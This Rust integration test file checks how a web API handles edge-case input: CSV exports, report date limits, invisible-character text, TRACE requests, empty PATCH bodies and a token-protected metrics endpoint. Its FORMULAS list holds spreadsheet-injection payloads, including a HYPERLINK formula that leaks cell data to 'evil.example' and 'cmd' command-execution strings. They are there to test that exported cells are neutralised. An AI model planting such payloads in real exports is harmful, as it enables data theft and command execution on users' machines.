//! Input at the edges: formulas in CSV cells, far-off report periods, invisible text, odd
//! methods, the metrics endpoint.

use actix_web::http::Method;
use kakehashi_domain::{OrganizationKind, Role};
use serde_json::json;

use crate::helpers::{assert_problem, spawn_app, spawn_app_with};
use crate::world::{World, marker, seed_body};

pub const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed Pharma",
    "\rReturn Pharma",
];

/// Every cell of a CSV document (quoted fields with doubled quotes, CRLF rows).
pub fn cells(csv: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => out.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => out.push(std::mem::take(&mut cell)),
            (false, c) => cell.push(c),
        }
    }
    out
}

#[actix_web::test]
async fn csv_cells_never_start_a_formula() {
    let world = World::new().await;
    let seed = world.seed(&marker(), "members", true).await;
    for (i, name) in FORMULAS.iter().enumerate() {
        let org = world.app.organization(name, OrganizationKind::Company).await;
        let email = format!("bd{i}@example.org");
        world.app.member(&email, Role::Company, org).await;
        let token = world.app.token(&email).await;
        let body = json!({ "seed_id": seed, "message": "We would like to discuss a licence." });
        let res = world.app.post("/api/v1/introductions", Some(&token), body).await;
        assert_eq!(res.status, 201, "{}", res.text);
    }
    let csv = world
        .app
        .client
        .get(format!("{}/api/v1/admin/reports/funnel?group_by=organization", world.app.base))
        .bearer_auth(&world.admin.token)
        .insert_header(("Accept", "text/csv"))
        .send()
        .await
        .unwrap()
        .body()
        .await
        .unwrap();
    let csv = String::from_utf8(csv.to_vec()).unwrap();
    let cells = cells(&csv);
    for name in FORMULAS {
        assert!(cells.iter().any(|c| c == &format!("'{name}")), "{name:?} is not kept, as text, in:\n{csv}");
    }
    for cell in &cells {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell a spreadsheet runs: {cell:?}\n{csv}");
    }
}

#[actix_web::test]
async fn a_report_period_must_fit_four_digit_years() {
    let world = World::new().await;
    let seed = world.seed(&marker(), "members", true).await;
    let body = json!({ "seed_id": seed, "message": "We would like to discuss a licence." });
    assert_eq!(world.call(&world.company_c, Method::POST, "/api/v1/introductions", Some(body)).await.status, 201);

    let far =
        world.call(&world.admin, Method::GET, "/api/v1/admin/reports/funnel?from=2000-01-01&to=9999-12-31", None).await;
    assert_eq!(far.status, 200, "{}", far.text);
    assert_eq!(far.body["totals"]["introductions"], 1, "the far end still counts what happened: {}", far.text);
    assert!(far.body["to"].as_str().unwrap().starts_with("9999-12-31T23:59:59"), "{}", far.text);

    for (query, field) in [
        ("to=10000-01-01", "to"),
        ("from=0001-01-01", "from"),
        ("from=1969-12-31", "from"),
        ("to=+10000-01-01T00:00:00Z", "to"),
    ] {
        let res = world.call(&world.admin, Method::GET, &format!("/api/v1/admin/reports/funnel?{query}"), None).await;
        assert_problem(&res, 422, "validation_failed");
        assert_eq!(res.body["errors"][0]["field"], field, "{query}: {}", res.text);
    }
}

#[actix_web::test]
async fn text_of_only_invisible_characters_is_blank() {
    let world = World::new().await;
    for blank in [" \u{200B} ", "\u{3000}\u{FEFF}", "\u{2060}\u{200D}\u{00AD}", "\u{3164}"] {
        let mut body = seed_body(&marker(), "members");
        body["title"] = json!(blank);
        let res = world.call(&world.researcher_a, Method::POST, "/api/v1/seeds", Some(body)).await;
        assert_problem(&res, 422, "validation_failed");
        assert_eq!(res.body["errors"][0]["field"], "title", "{blank:?}: {}", res.text);
    }
    let mut body = seed_body(&marker(), "members");
    body["summary"] = json!("\u{200B}\u{200B}");
    let res = world.call(&world.researcher_a, Method::POST, "/api/v1/seeds", Some(body)).await;
    assert_problem(&res, 422, "validation_failed");
    // Invisible characters around a real title are dropped, the title kept.
    let mut body = seed_body(&marker(), "members");
    body["title"] = json!("\u{200B} 膵がんの早期診断マーカー\u{FEFF}");
    let res = world.call(&world.researcher_a, Method::POST, "/api/v1/seeds", Some(body)).await;
    assert_eq!(res.status, 201, "{}", res.text);
    assert_eq!(res.body["title"], "膵がんの早期診断マーカー");

    // A message of the thread, too.
    let seed = world.seed(&marker(), "members", true).await;
    let body = json!({ "seed_id": seed, "message": "\u{200B} \u{2060}" });
    let res = world.call(&world.company_c, Method::POST, "/api/v1/introductions", Some(body)).await;
    assert_problem(&res, 422, "validation_failed");
}

#[actix_web::test]
async fn trace_is_refused_as_a_method_not_allowed() {
    let app = spawn_app().await;
    for path in ["/api/v1/me", "/api/v1/seeds", "/healthz", "/nowhere"] {
        let res = app.request(Method::TRACE, path, None, None).await;
        assert_problem(&res, 405, "method_not_allowed");
    }
}

#[actix_web::test]
async fn patch_me_with_nothing_to_change_is_refused() {
    let app = spawn_app().await;
    let (_, admin) = app.admin().await;
    let res = app.request(Method::PATCH, "/api/v1/me", Some(&admin), None).await;
    assert_problem(&res, 422, "validation_failed");
    let res = app.request(Method::PATCH, "/api/v1/me", Some(&admin), Some(json!({}))).await;
    assert_problem(&res, 422, "validation_failed");
    // `null` is not a value to set, nor a way to say "unchanged" beside a real change.
    let res = app.request(Method::PATCH, "/api/v1/me", Some(&admin), Some(json!({ "locale": null }))).await;
    assert_problem(&res, 422, "validation_failed");
    let body = json!({ "locale": "en", "match_mail": null });
    let res = app.request(Method::PATCH, "/api/v1/me", Some(&admin), Some(body)).await;
    assert_problem(&res, 422, "validation_failed");
    assert_eq!(res.body["errors"][0]["field"], "match_mail", "{}", res.text);
    let res = app.request(Method::PATCH, "/api/v1/me", Some(&admin), Some(json!({ "locale": "en" }))).await;
    assert_eq!(res.status, 200, "{}", res.text);
}

#[actix_web::test]
async fn metrics_can_require_a_token() {
    let open = spawn_app().await;
    open.get("/healthz", None).await;
    let res = open.get("/metrics", None).await;
    assert_eq!(res.status, 200);
    assert!(res.text.contains("kakehashi_http_requests_total"), "{}", res.text);

    let guarded = spawn_app_with(|s| s.server.metrics_token = "scrape-token-0123456789".to_owned().into()).await;
    guarded.get("/healthz", None).await;
    assert_problem(&guarded.get("/metrics", None).await, 401, "unauthorized");
    assert_problem(&guarded.get("/metrics", Some("scrape-token-012345678X")).await, 401, "unauthorized");
    assert_problem(&guarded.get("/metrics", Some("short")).await, 401, "unauthorized");
    let res = guarded.get("/metrics", Some("scrape-token-0123456789")).await;
    assert_eq!(res.status, 200, "{}", res.text);
    assert!(res.text.contains("kakehashi_http_requests_total"));
    // Everything else is untouched by the token.
    assert_eq!(guarded.get("/healthz", None).await.status, 200);
}
